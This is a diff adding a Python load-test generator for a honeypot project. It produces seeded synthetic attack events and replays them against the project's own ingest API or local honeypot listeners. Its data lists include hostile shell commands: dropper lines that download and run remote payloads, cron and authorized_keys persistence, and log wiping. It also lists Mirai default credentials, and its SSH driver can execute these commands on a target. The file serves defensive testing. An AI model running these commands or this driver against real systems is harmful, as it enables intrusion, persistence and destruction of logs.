@@ -0,0 +1,309 @@
+"""
+Synthetic Attack Traffic for HoneyCloud-X
+Seeded generator of realistic attack patterns, and drivers that replay it at
+a fixed rate against the ingest API or the honeypot listeners.
+
+Scenarios:
+    brute_force  - one source hammering SSH/FTP logins in a burst
+    scanner      - one source sweeping HTTP paths with scanner user agents
+    botnet       - many sources each trying a few default IoT credentials
+    commands     - a logged-in session running recon -> download -> persist
+
+The same seed always produces the same event sequence, so load tests are
+repeatable. Run from backend/:
+    python -m app.traffic dump --count 1000 > events.ndjson
+    python -m app.traffic ingest --rate 2000 --duration 30
+    python -m app.traffic honeypots --rate 20 --duration 30
+"""
+import argparse
+import ftplib
+import http.client
+import json
+import logging
+import random
+import socket
+import sys
+import time
+import urllib.parse
+import urllib.request
+from typing import Iterator, List, Optional
+
+try:
+    import paramiko
+except ImportError:
+    paramiko = None
+
+logger = logging.getLogger(__name__)
+
+# Protocol-level rejections and mid-session resets (e.g. the tarpit's per-IP
+# connection cap, which every generated connection shares)
+HONEYPOT_ERRORS = ftplib.all_errors + (http.client.HTTPException,)
+if paramiko is not None:
+    HONEYPOT_ERRORS += (paramiko.SSHException,)
+# The honeypot is down or not answering: failures, not rejections
+CONNECT_ERRORS = (ConnectionRefusedError, socket.timeout, TimeoutError)
+if paramiko is not None:
+    CONNECT_ERRORS += (paramiko.ssh_exception.NoValidConnectionsError,)
+
+DEFAULT_WEIGHTS = {'brute_force': 0.4, 'scanner': 0.2, 'botnet': 0.3, 'commands': 0.1}
+
+USERNAMES = ('root', 'admin', 'ubuntu', 'pi', 'test', 'oracle', 'postgres', 'user', 'git', 'ftpuser')
+PASSWORDS = ('123456', 'password', 'admin', 'root', 'toor', '12345678', 'qwerty', 'raspberry',
+             'changeme', 'P@ssw0rd', '1q2w3e4r', 'letmein', 'ubuntu', 'default')
+# Default IoT credentials used by Mirai-family botnets
+BOTNET_CREDENTIALS = (
+    ('root', 'xc3511'), ('root', 'vizxv'), ('root', 'admin'), ('admin', 'admin'), ('root', '888888'),
+    ('root', 'xmhdipc'), ('root', 'default'), ('root', 'juantech'), ('root', '123456'), ('root', '54321'),
+    ('support', 'support'), ('root', ''), ('admin', 'password'), ('root', 'root'), ('root', '12345'),
+    ('user', 'user'), ('admin', ''), ('root', 'pass'), ('admin', 'admin1234'), ('root', '1111'),
+)
+SCAN_PATHS = ('/', '/.env', '/wp-login.php', '/phpmyadmin/', '/admin', '/.git/config', '/cgi-bin/luci',
+              '/actuator/health', '/server-status', '/boaform/admin/formLogin', '/HNAP1/', '/solr/admin/info/system',
+              '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/config.json', '/api/v1/pods')
+SCANNER_AGENTS = ('masscan/1.3', 'zgrab/0.x', 'Mozilla/5.0 (compatible; Nmap Scripting Engine)',
+                  'python-requests/2.31.0', 'Go-http-client/1.1', 'curl/8.4.0')
+RECON_COMMANDS = ('uname -a', 'cat /proc/cpuinfo', 'whoami', 'id', 'free -m', 'ls -la', 'w', 'nproc',
+                  'cat /etc/passwd', 'ps aux')
+DROPPER_COMMANDS = ('cd /tmp', 'wget http://{host}/bins.sh', 'curl -O http://{host}/x86', 'chmod +x bins.sh',
+                    'sh bins.sh', 'tftp -g -r mips {host}', 'busybox wget http://{host}/arm7')
+PERSIST_COMMANDS = ('crontab -l', '(crontab -l; echo "* * * * * /tmp/.x") | crontab -',
+                    'echo "ssh-rsa AAAA...attacker" >> ~/.ssh/authorized_keys', 'history -c', 'rm -rf /var/log/*')
+
+
+class TrafficGenerator:
+    """Seeded source of attack events shaped like AttackEventCreate records"""
+
+    def __init__(self, seed: int = 42, weights: Optional[dict] = None, botnet_size: int = 500,
+                 sensor_id: str = 'loadgen'):
+        self.rng = random.Random(seed)
+        self.weights = weights or DEFAULT_WEIGHTS
+        self.sensor_id = sensor_id
+        # A fixed botnet so the same hosts recur across bursts, as in real traffic
+        self.bots = [self._ip() for _ in range(botnet_size)]
+        self.c2_hosts = [self._ip() for _ in range(5)]
+
+    def _ip(self) -> str:
+        rng = self.rng
+        return f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
+
+    def _event(self, source_ip: str, service: str, source_port: int, **fields) -> dict:
+        event = {'source_ip': source_ip, 'service': service, 'source_port': source_port,
+                 'sensor_id': self.sensor_id}
+        event.update({k: v for k, v in fields.items() if v is not None})
+        return event
+
+    def brute_force(self) -> List[dict]:
+        rng = self.rng
+        ip, service = self._ip(), rng.choice(('ssh', 'ssh', 'ftp'))
+        port = rng.randint(1024, 65535)
+        attempts = rng.randint(20, 200)
+        users = rng.sample(USERNAMES, rng.randint(1, 3))
+        return [
+            self._event(ip, service, port, username=rng.choice(users), password=rng.choice(PASSWORDS))
+            for _ in range(attempts)
+        ]
+
+    def scanner(self) -> List[dict]:
+        rng = self.rng
+        ip, agent = self._ip(), rng.choice(SCANNER_AGENTS)
+        paths = rng.sample(SCAN_PATHS, rng.randint(5, len(SCAN_PATHS)))
+        return [
+            self._event(ip, 'http', rng.randint(1024, 65535), payload=f"GET {path} HTTP/1.1", user_agent=agent)
+            for path in paths
+        ]
+
+    def botnet(self) -> List[dict]:
+        rng = self.rng
+        events = []
+        for ip in rng.sample(self.bots, rng.randint(10, 50)):
+            port = rng.randint(1024, 65535)
+            for username, password in rng.sample(BOTNET_CREDENTIALS, rng.randint(1, 5)):
+                events.append(self._event(ip, rng.choice(('ssh', 'ssh', 'ftp')), port,
+                                          username=username, password=password))
+        return events
+
+    def commands(self) -> List[dict]:
+        rng = self.rng
+        ip, port = self._ip(), rng.randint(1024, 65535)
+        username, host = rng.choice(('root', 'admin', 'pi')), rng.choice(self.c2_hosts)
+        sequence = (
+            rng.sample(RECON_COMMANDS, rng.randint(2, 5))
+            + [c.format(host=host) for c in rng.sample(DROPPER_COMMANDS, rng.randint(1, 4))]
+            + rng.sample(PERSIST_COMMANDS, rng.randint(0, 2))
+        )
+        events = [self._event(ip, 'ssh', port, username=username, password=rng.choice(PASSWORDS))]
+        events.extend(self._event(ip, 'ssh', port, username=username, command=c) for c in sequence)
+        return events
+
+    def stream(self) -> Iterator[dict]:
+        """Endless event stream mixing scenarios by weight"""
+        names = list(self.weights)
+        weights = [self.weights[n] for n in names]
+        while True:
+            yield from getattr(self, self.rng.choices(names, weights)[0])()
+
+    def take(self, count: int) -> List[dict]:
+        stream = self.stream()
+        return [next(stream) for _ in range(count)]
+
+
+def paced(events: Iterator[dict], rate: float, duration: float, batch_size: int) -> Iterator[List[dict]]:
+    """Group events into batches released so that `rate` events/sec are sent for `duration` seconds"""
+    start = time.perf_counter()
+    sent = 0
+    while True:
+        elapsed = time.perf_counter() - start
+        if elapsed >= duration:
+            return
+        due = int(elapsed * rate) - sent
+        if due <= 0:
+            time.sleep(min(0.01, (sent + 1) / rate - elapsed))
+            continue
+        batch = [next(events) for _ in range(min(due, batch_size))]
+        sent += len(batch)
+        yield batch
+
+
+# ====================================
+# DRIVERS
+# ====================================
+
+def login(base_url: str, username: str, password: str) -> str:
+    data = urllib.parse.urlencode({"username": username, "password": password}).encode()
+    with urllib.request.urlopen(f"{base_url}/auth/login", data=data, timeout=30) as response:
+        return json.loads(response.read())["access_token"]
+
+
+def drive_ingest(generator: TrafficGenerator, base_url: str, token: str, rate: float,
+                 duration: float, batch_size: int = 500) -> dict:
+    """POST paced NDJSON batches to /api/ingest; returns counts and per-request latencies"""
+    stats = {'sent': 0, 'accepted': 0, 'errors': 0, 'latencies': []}
+    for batch in paced(generator.stream(), rate, duration, batch_size):
+        body = "\n".join(json.dumps(e) for e in batch).encode()
+        request = urllib.request.Request(
+            f"{base_url}/api/ingest", data=body,
+            headers={"Authorization": f"Bearer {token}", "Content-Type": "application/x-ndjson"},
+        )
+        start = time.perf_counter()
+        try:
+            with urllib.request.urlopen(request, timeout=60) as response:
+                stats['accepted'] += json.loads(response.read())["accepted"]
+        except OSError as e:
+            stats['errors'] += 1
+            logger.warning(f"Ingest request failed: {e}")
+        stats['latencies'].append(time.perf_counter() - start)
+        stats['sent'] += len(batch)
+    return stats
+
+
+def _send_to_honeypot(event: dict, host: str, ports: dict, timeout: float):
+    service = event['service']
+    if service == 'http':
+        conn = http.client.HTTPConnection(host, ports['http'], timeout=timeout)
+        try:
+            path = event.get('payload', 'GET /').split()[1]
+            conn.request('GET', path, headers={'User-Agent': event.get('user_agent', '')})
+            conn.getresponse().read()
+        finally:
+            conn.close()
+    elif service == 'ftp':
+        ftp = ftplib.FTP()
+        try:
+            ftp.connect(host, ports['ftp'], timeout=timeout)
+            ftp.login(event.get('username', 'anonymous'), event.get('password', ''))
+        except ftplib.error_perm:
+            pass
+        finally:
+            ftp.close()
+    elif service == 'ssh':
+        if paramiko is None:
+            raise RuntimeError("paramiko not installed, SSH traffic skipped")
+        client = paramiko.SSHClient()
+        client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+        try:
+            client.connect(host, ports['ssh'], username=event.get('username'), password=event.get('password'),
+                           timeout=timeout, allow_agent=False, look_for_keys=False)
+            if event.get('command'):
+                client.exec_command(event['command'], timeout=timeout)
+        except paramiko.AuthenticationException:
+            pass
+        finally:
+            client.close()
+
+
+def drive_honeypots(generator: TrafficGenerator, host: str, ports: dict, rate: float,
+                    duration: float, timeout: float = 5.0) -> dict:
+    """
+    Replay events as real protocol sessions (HTTP requests, FTP and SSH logins).
+    All connections come from this machine, so expect the tarpit to slow them
+    and its per-IP cap to reject some (counted as `rejected`); refused or
+    timed-out connections mean the honeypot is not serving and count as `errors`.
+    """
+    stats = {'sent': 0, 'rejected': 0, 'errors': 0, 'latencies': []}
+    for batch in paced(generator.stream(), rate, duration, batch_size=1):
+        event = batch[0]
+        start = time.perf_counter()
+        try:
+            _send_to_honeypot(event, host, ports, timeout)
+        except CONNECT_ERRORS as e:
+            stats['errors'] += 1
+            logger.debug(f"{event['service']} honeypot unreachable: {e}")
+        except HONEYPOT_ERRORS as e:
+            stats['rejected'] += 1
+            logger.debug(f"{event['service']} honeypot connection rejected: {e}")
+        except RuntimeError as e:
+            stats['errors'] += 1
+            logger.debug(f"{event['service']} honeypot request failed: {e}")
+        stats['latencies'].append(time.perf_counter() - start)
+        stats['sent'] += 1
+    return stats
+
+
+def percentile(values: List[float], pct: float) -> float:
+    if not values:
+        return 0.0
+    ordered = sorted(values)
+    return ordered[min(len(ordered) - 1, int(round(pct / 100 * (len(ordered) - 1))))]
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Synthetic attack traffic generator")
+    parser.add_argument("target", choices=("dump", "ingest", "honeypots"))
+    parser.add_argument("--seed", type=int, default=42)
+    parser.add_argument("--count", type=int, default=1000, help="Events to print (dump)")
+    parser.add_argument("--rate", type=float, default=1000.0, help="Events per second")
+    parser.add_argument("--duration", type=float, default=30.0, help="Seconds to run")
+    parser.add_argument("--batch-size", type=int, default=500)
+    parser.add_argument("--url", default="http://127.0.0.1:8000")
+    parser.add_argument("--username", default="admin")
+    parser.add_argument("--password", default="admin123")
+    parser.add_argument("--host", default="127.0.0.1")
+    parser.add_argument("--ssh-port", type=int, default=2222)
+    parser.add_argument("--ftp-port", type=int, default=2121)
+    parser.add_argument("--http-port", type=int, default=8080)
+    args = parser.parse_args()
+
+    logging.basicConfig(level=logging.INFO)
+    generator = TrafficGenerator(seed=args.seed)
+
+    if args.target == "dump":
+        for event in generator.take(args.count):
+            sys.stdout.write(json.dumps(event) + "\n")
+        return
+
+    if args.target == "ingest":
+        token = login(args.url, args.username, args.password)
+        stats = drive_ingest(generator, args.url, token, args.rate, args.duration, args.batch_size)
+    else:
+        ports = {'ssh': args.ssh_port, 'ftp': args.ftp_port, 'http': args.http_port}
+        stats = drive_honeypots(generator, args.host, ports, args.rate, args.duration)
+
+    latencies = stats.pop('latencies')
+    stats['events_per_sec'] = round(stats['sent'] / args.duration, 1)
+    stats['p50_ms'] = round(percentile(latencies, 50) * 1000, 2)
+    stats['p99_ms'] = round(percentile(latencies, 99) * 1000, 2)
+    print(json.dumps(stats, indent=2))
+
+
+if __name__ == "__main__":
+    main()